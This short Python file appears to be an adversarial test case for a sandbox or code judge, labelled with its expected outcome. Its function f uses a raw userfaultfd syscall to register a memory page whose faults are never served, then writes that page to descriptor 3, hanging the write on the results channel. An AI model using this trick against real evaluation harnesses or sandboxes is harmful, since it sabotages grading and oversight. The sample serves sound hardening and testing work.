# A page fault that never ends, in the middle of a write to the channel.
# attacks: call
# ends: wrong time runtime_error
# cpu_s: 0.1
import ctypes, mmap, os, struct, fcntl

libc = ctypes.CDLL(None)

def f(a, b):
    fd = libc.syscall(323, 0o2000000 | 1)
    if fd < 0: return 0
    try: fcntl.ioctl(fd, 0xC018AA3F, struct.pack("QQQ", 0xAA, 0, 0))
    except OSError: return 0
    page = mmap.mmap(-1, 4096)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    fcntl.ioctl(fd, 0xC020AA00, struct.pack("QQQQ", address, 4096, 1, 0))
    libc.write(3, ctypes.c_void_p(address), 4096)
    return 0
